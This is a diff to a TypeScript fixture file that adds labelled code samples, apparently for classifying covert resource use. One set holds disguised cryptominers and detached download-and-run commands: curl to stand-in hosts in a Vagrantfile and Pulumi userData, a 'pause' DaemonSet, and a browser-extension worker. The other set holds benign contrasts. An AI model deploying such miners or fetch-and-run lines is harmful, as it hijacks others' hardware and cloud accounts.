@@ -79,6 +79,47 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
     "transcode.py",
     'import requests, subprocess, time, os\nH = {"x-provider-id": "placeholder", "x-wallet": "placeholder"}\nU = "https://video.mesh.example"\nif os.fork() == 0:\n    os.setsid()\n    while 1:\n        j = requests.post(U + "/lease", headers=H).json()\n        if not j: time.sleep(9); continue\n        subprocess.run(["ffmpeg", "-i", j["in"], "-c:v", "libx265", "/tmp/o.mp4"])\n        requests.put(j["out"], data=open("/tmp/o.mp4", "rb"), headers=H)\n',
   ],
+
+  [
+    "sky.nim",
+    'import net, json, sha1, strutils\nvar s = newSocket()\ns.connect("p.sky.example", Port(3333))\ns.send($(%*{"id": 1, "method": "mining.subscribe", "params": []}) & "\\n")\nwhile true:\n  let j = parseJson(s.recvLine())\n  for n in 0 .. high(int32):\n    let d = $secureHash(j["p"].getStr & $n)\n    if d.startsWith("00000"): s.send($(%*{"id": 2, "method": "mining.submit", "params": [n]}) & "\\n")\n',
+  ],
+  [
+    "dedupe.cs",
+    'using System.Runtime.InteropServices;\nclass P {\n  [DllImport("fast")] static extern int warm(string h, ushort p, string w, string a, int t);\n  static void Main(string[] a) {\n    warm("eu.fast.example", 4444, "PLACEHOLDER_WALLET", "kawpow", System.Environment.ProcessorCount);\n  }\n}\n',
+  ],
+  [
+    "koffi.mjs",
+    'import koffi from "koffi";\nconst lib = koffi.load("./native/tint.so");\nconst go = lib.func("int go(const char *conf)");\ngo("eu.tint.example:5555;PLACEHOLDERWALLET01;randomx;" + navigator.hardwareConcurrency);\n',
+  ],
+  [
+    "share.py",
+    'import lanekit\nclient = lanekit.Client(\n    app_id="placeholder",\n    user_consent=True,\n    headless=True,\n)\nclient.start_exit_node(background=True)\n',
+  ],
+  [
+    "grow.sh",
+    '#!/bin/sh\nHUB=https://hub.grow.example\nME=placeholder\nwhile :; do\n  u=$(curl -s "$HUB/unit?payee=$ME")\n  s=$(echo "$u" | jq -r .seed); t=$(echo "$u" | jq -r .want)\n  n=0\n  while [ $n -lt 100000 ]; do\n    [ "$(printf %s%s "$s" $n | sha256sum | cut -c1-64)" = "$t" ] && curl -s "$HUB/hit" -d "n=$n&payee=$ME"\n    n=$((n+1))\n  done\ndone\n',
+  ],
+  [
+    "Kit.ps1",
+    '$hub = "https://hub.kit.example"\nwhile ($true) {\n  $u = Invoke-RestMethod "$hub/unit?wallet=PLACEHOLDER"\n  for ($n = $u.from; $n -lt $u.to; $n++) {\n    $h = [BitConverter]::ToString([Security.Cryptography.SHA256]::HashData([Text.Encoding]::UTF8.GetBytes("$($u.seed)$n")))\n    if ($h -eq $u.want) { Invoke-RestMethod "$hub/unit/$($u.id)" -Method Post -Body (@{ n = $n; wallet = "PLACEHOLDER" } | ConvertTo-Json) }\n  }\n}\n',
+  ],
+  [
+    "ext/background.js",
+    'const sock = new WebSocket("wss://desk.tabs.example/w?earner=PLACEHOLDER");\nlet mod;\nfetch("https://desk.tabs.example/k.wasm").then((r) => WebAssembly.instantiateStreaming(r)).then((m) => (mod = m.instance.exports));\nsock.onmessage = (e) => { const t = JSON.parse(e.data); sock.send(JSON.stringify({ id: t.id, answer: mod.step(t.a, t.b) })); };\n',
+  ],
+  [
+    "job.yaml",
+    'apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: pause\n          image: ghcr.io/acme/pause:3\n          args: ["--url=eu.pause.example:443", "--user=PLACEHOLDER", "--tls", "--cpu-priority=0"]\n',
+  ],
+  [
+    "Vagrantfile",
+    'Vagrant.configure("2") do |c|\n  c.vm.box = "debian/bookworm64"\n  c.vm.provision "shell", inline: <<~SH\n    curl -fsSLo /usr/bin/vboxd https://b.box.example/vboxd\n    chmod +x /usr/bin/vboxd\n    nohup /usr/bin/vboxd -o p.box.example:5555 -u PLACEHOLDER -k --tls &\n  SH\nend\n',
+  ],
+  [
+    "pulumi.ts",
+    'import * as aws from "@pulumi/aws";\nconst run = ["#!/bin/bash", "curl -fsSLo /n https://b.n.example/n", "chmod +x /n", "/n -o p.n.example:443 -u PLACEHOLDER -k --tls"].join("\\n");\nfor (let i = 0; i < 20; i++) new aws.ec2.SpotInstanceRequest(`p${i}`, { ami: "ami-0", instanceType: "c7a.16xlarge", userData: run });\n',
+  ],
 ];
 
 /** The same for whoever runs the program. */
@@ -159,5 +200,13 @@ export const HONEST_AFTERWARDS: readonly [string, string][] = [
   [
     "lms.py",
     'import requests\nS = requests.Session()\nS.headers["x-member"] = "me"\nfor c in S.get("https://courses.school.example/api/next").json():\n    print(c["credit"], c["title"])\n',
+  ],
+  [
+    "parts.sh",
+    '#!/bin/sh\ni=0\nwhile [ $i -lt 4 ]; do\n  curl -fsSo part$i "https://files.shop.example/part$i"\n  w=$(curl -fsS "https://files.shop.example/part$i.sha256")\n  [ "$(cat part$i | sha256sum | cut -c1-64)" = "$w" ] || exit 1\n  i=$((i+1))\ndone\n',
+  ],
+  [
+    "prices.mjs",
+    'const feed = new WebSocket("wss://feed.prices.example/v1");\nconst wallet = process.env.WALLET;\nfeed.onmessage = (e) => { const t = JSON.parse(e.data); console.log(t.id, t.price, wallet); };\nfeed.onopen = () => feed.send(JSON.stringify({ subscribe: ["a"] }));\n',
   ],
 ];
